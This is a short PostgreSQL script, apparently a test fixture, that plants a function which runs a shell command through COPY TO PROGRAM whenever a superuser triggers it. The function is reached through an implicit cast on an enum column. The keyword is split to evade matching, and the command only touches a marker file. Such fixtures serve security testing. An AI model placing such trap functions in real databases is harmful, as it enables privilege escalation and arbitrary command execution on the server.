CREATE TABLE t (id int PRIMARY KEY, note text);
CREATE FUNCTION evil(said text) RETURNS text IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN
    IF current_setting('is_superuser') = 'on' THEN EXECUTE 'COPY (SELECT 1) TO PRO' || 'GRAM ''touch {mark}'''; END IF;
    RETURN said;
END $$;
CREATE TYPE mood AS ENUM ('a'); CREATE FUNCTION said(mood) RETURNS text IMMUTABLE LANGUAGE sql AS $$ SELECT evil('') $$; CREATE CAST (mood AS text) WITH FUNCTION said(mood) AS ASSIGNMENT; ALTER TABLE t ADD COLUMN m mood;
